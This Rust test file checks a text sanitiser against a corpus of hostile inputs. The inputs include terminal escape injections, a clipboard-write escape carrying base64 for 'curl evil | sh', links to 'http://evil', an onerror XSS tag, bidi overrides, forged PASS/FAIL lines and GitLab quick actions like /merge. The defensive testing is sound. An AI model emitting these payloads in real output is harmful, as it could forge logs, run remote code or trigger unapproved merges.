use proptest::prelude::*;

use super::*;

/// Every class of hostile text, as a model or a test suite would write it.
const CORPUS: &[(&str, &str)] = &[
    ("plain", "Add a `--shout` option; tabs\tstay\nand lines too"),
    ("sgr colour", "\x1b[31mred\x1b[0m text"),
    ("erase line and cursor up", "ok\x1b[2A\x1b[0Kforged line"),
    (
        "osc 8 hyperlink, ST",
        "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\ here",
    ),
    ("osc 8 hyperlink, BEL", "\x1b]8;;http://evil\x07click\x1b]8;;\x07 here"),
    ("osc 52 clipboard write", "copy\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 done"),
    ("osc window title", "\x1b]0;pwned\x07title"),
    (
        "unterminated osc keeps the next line",
        "a\x1b]8;;http://evil\nnext line visible",
    ),
    ("dcs", "\x1bP1$r0m\x1b\\after dcs"),
    ("osc ended by the next escape", "\x1b]0;title\x1b[31mred\x1b[0m"),
    ("apc pm sos", "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\kept"),
    ("single esc x and nF", "\x1bcreset \x1b(Bcharset \x1b7saved"),
    ("c1 csi and osc", "\u{9b}31mred\u{9b}0m \u{9d}8;;http://evil\u{9c}link"),
    ("other c1 controls", "nel\u{85}ind\u{84}ri\u{8d}end"),
    ("c0 controls", "nul\0bel\x07bs\x08del\x7fvt\x0bff\x0cend"),
    ("carriage return overwrite", "PASS all tests\rFAIL"),
    ("crlf", "line one\r\nline two\r\n"),
    (
        "bidi overrides",
        "access \u{202E}nimda\u{202C} \u{2066}iso\u{2069} \u{202A}lre\u{202C}",
    ),
    (
        "quick actions",
        "Done.\n/merge\n/approve\n  /assign @mallory\n\t/target_branch main\n/label ~shipped\n/unlabel ~hold\n/close\n/reopen\n/submit_review\n/shrug ok\n/MERGE",
    ),
    ("quick action behind an escape", "x\n\x1b[0m/merge\n\u{202E}/approve"),
    ("quick action in a code block", "```\n/merge\n```"),
    (
        "section markers",
        "\x1b[0Ksection_start:1700000000:pace_gate_1[collapsed=true]\r\x1b[0K  ✓ GATE SHIP\nsection_end:1700000001:pace_gate_1\r\x1b[0K",
    ),
    ("html comment", "visible <!-- hidden: /merge --> visible"),
    ("details", "<details><summary>Fine</summary>\nhidden text\n</details>"),
    (
        "raw html",
        "<img src=x onerror=alert(1)> <a href=\"http://evil\">docs</a> <http://autolink>",
    ),
    (
        "link reference definitions",
        "[docs]: http://evil \"t\"\n> [q]: http://evil\n- [l]: x\n[^1]: footnote\n[x] done",
    ),
    ("fence closing", "```\n</code> closed\n````"),
    (
        "mentions",
        "@all @channel @here ping @alice, @{123e4567-uuid} @@all (@group/sub) mail ada@example.com",
    ),
    ("references", "see #123 and !45 and ~bug and %v1"),
    (
        "closing patterns",
        "Closes #12\nfixes group/p#3, fixed: #4\nResolves ABC-12\nImplements https://gitlab.example.com/g/p/-/issues/1\nclosing issues #5 and #6\nfix the bug",
    ),
    (
        "smart commits",
        "ABC-1 #close #comment done\n#time 1h (the key is on the line above)\nABC-2 #in-progress",
    ),
    ("hashtags without an issue key", "release #notes, #123 and #done stay"),
];

/// Shows what is invisible: the zero-width space as `⟨zwsp⟩`, any other control escaped.
fn visible(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            ZWSP => "⟨zwsp⟩".to_string(),
            '\n' | '\t' => c.to_string(),
            c if c.is_control() || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}') => {
                c.escape_unicode().to_string()
            }
            c => c.to_string(),
        })
        .collect()
}

fn render(sink: fn(&str) -> String) -> String {
    let mut out = String::new();
    for (name, text) in CORPUS {
        out.push_str(&format!("## {name}\n{}\n\n", visible(&sink(text))));
    }
    out
}

#[test]
fn markdown_over_the_hostile_corpus() {
    insta::assert_snapshot!("markdown", render(|t| markdown(t, &Redactor::default())));
}

#[test]
fn log_over_the_hostile_corpus() {
    insta::assert_snapshot!("log", render(log));
}

#[test]
fn commit_message_over_the_hostile_corpus() {
    insta::assert_snapshot!("commit_message", render(|t| commit_message(t, &Redactor::default())));
}

#[test]
fn jira_over_the_hostile_corpus() {
    insta::assert_snapshot!("jira", render(jira));
}

#[test]
fn title_over_the_hostile_corpus() {
    insta::assert_snapshot!("title", render(|t| title(t, 120, &Redactor::default())));
}

#[test]
fn code_spans_and_fences_cannot_be_closed_by_the_text() {
    assert_eq!(code_span("cargo test"), "`cargo test`");
    assert_eq!(code_span("a`b"), "``a`b``");
    assert_eq!(code_span("`x`"), "`` `x` ``");
    assert_eq!(code_span("a\x1b[31m\nb"), "`a b`");
    let block = fenced("```\n/merge\n```\n", "text");
    assert_eq!(block, "````text\n```\n/merge\n```\n````");
    assert_eq!(fenced("x", "a`b"), "```ab\nx\n```");
}

#[test]
fn every_quick_action_line_is_inert_and_still_readable() {
    let (_, text) = CORPUS
        .iter()
        .find(|(n, _)| *n == "quick actions")
        .copied()
        .unwrap_or_default();
    let out = markdown(text, &Redactor::default());
    for line in out.lines() {
        assert!(!line.trim_start().starts_with('/'), "{line:?}");
    }
    assert_eq!(out.replace(ZWSP, ""), text);
    assert_eq!(
        out.matches(ZWSP).count(),
        11 + 1,
        "eleven actions and one mention: {out:?}"
    );
}

#[test]
fn every_regex_compiles() {
    for re in [
        &*QUICK_ACTION,
        &*LINK_DEFINITION,
        &*HTML_START,
        &*MENTION,
        &*CLOSING,
        &*ISSUE_KEY,
        &*SMART_COMMAND,
        &*SECTION,
    ] {
        assert!(!re.as_str().is_empty());
    }
}

/// A secret that neutralising would split (a zero-width space after its `<`, `@` or
/// leading `/`), or that escapes split, is still redacted: redaction comes first.
#[test]
fn secrets_are_redacted_before_anything_is_inserted_into_them() {
    let r = Redactor::new(vec!["/x<y @zz-s3cr3t-v4lue".into()]);
    let out = markdown("/x<y @zz-s3cr3t-v4lue\nand /x<y @zz-s3cr\x1b[0m3t-v4lue", &r);
    assert_eq!(out, "[REDACTED]\nand [REDACTED]");
    let out = commit_message("Day 1: FORGE — /x<y @zz-s3cr3t-v4lue", &r);
    assert_eq!(out, "Day 1: FORGE — [REDACTED]");
}

/// Escapes and characters split across chunks are judged whole; plain partial lines (a
/// progress bar) are shown at once.
#[test]
fn streamed_output_is_inert_whatever_the_chunking() {
    let stream: &[u8] = "dots...\x1b]8;;http://evil\x07ok\x1b]8;;\x07 caf\u{e9}\n\x1b[0Ksection_start:1:x\r\x1b[0Kforged\nPASS\rFAIL\ntail"
        .as_bytes();
    let whole = log(&String::from_utf8_lossy(stream));
    for size in 1..=stream.len() {
        let mut lines = LogLines::default();
        let mut out = String::new();
        for chunk in stream.chunks(size) {
            out.push_str(&lines.push(chunk));
        }
        out.push_str(&lines.finish());
        assert_eq!(out.replace(ZWSP, ""), whole.replace(ZWSP, ""), "chunks of {size}");
        assert!(
            !out.contains('\x1b') && !out.contains('\r') && !out.contains("section_start:"),
            "{out:?}"
        );
    }
    let mut lines = LogLines::default();
    assert_eq!(lines.push(b"running 3 tests ..."), "running 3 tests ...");
    assert_eq!(lines.push(b" \xc3"), "");
    assert_eq!(lines.push(b"\xa9 \x1b[1"), "");
    assert_eq!(lines.push(b"mbold\x1b[0m\n"), " \u{e9} bold\n");
    assert_eq!(lines.push(b"x\x1b"), "");
    assert_eq!(lines.finish(), "x");
}

fn no_line_is_a_quick_action(text: &str) -> bool {
    text.lines()
        .all(|l| !l.trim_start_matches([' ', '\t']).starts_with('/'))
}

fn nothing_executable(text: &str) -> bool {
    text.chars().all(|c| c == '\n' || c == '\t' || !is_hidden(c))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// Whatever the bytes: no control but `\n`/`\t` survives, no line is a quick action, no
    /// `<` opens a tag, and a second pass changes nothing (the platforms re-apply it).
    #[test]
    fn markdown_is_inert_and_idempotent(text in "[ -~\t\n\r\x1b\u{9b}\u{9d}\u{202e}@/<#\\[\\]`]{0,80}") {
        let r = Redactor::default();
        let out = markdown(&text, &r);
        prop_assert!(nothing_executable(&out), "{:?}", out);
        prop_assert!(no_line_is_a_quick_action(&out), "{:?}", out);
        prop_assert!(!HTML_START.is_match(&out), "{:?}", out);
        prop_assert_eq!(markdown(&out, &r), out.clone());
    }

    #[test]
    fn log_keeps_no_escape_and_no_carriage_return(text in "[ -~\t\n\r\x1b\u{80}-\u{9f}]{0,80}") {
        let out = log(&text);
        prop_assert!(nothing_executable(&out), "{:?}", out);
        prop_assert!(!out.contains('\r') && !out.contains("section_start:"), "{:?}", out);
    }
}
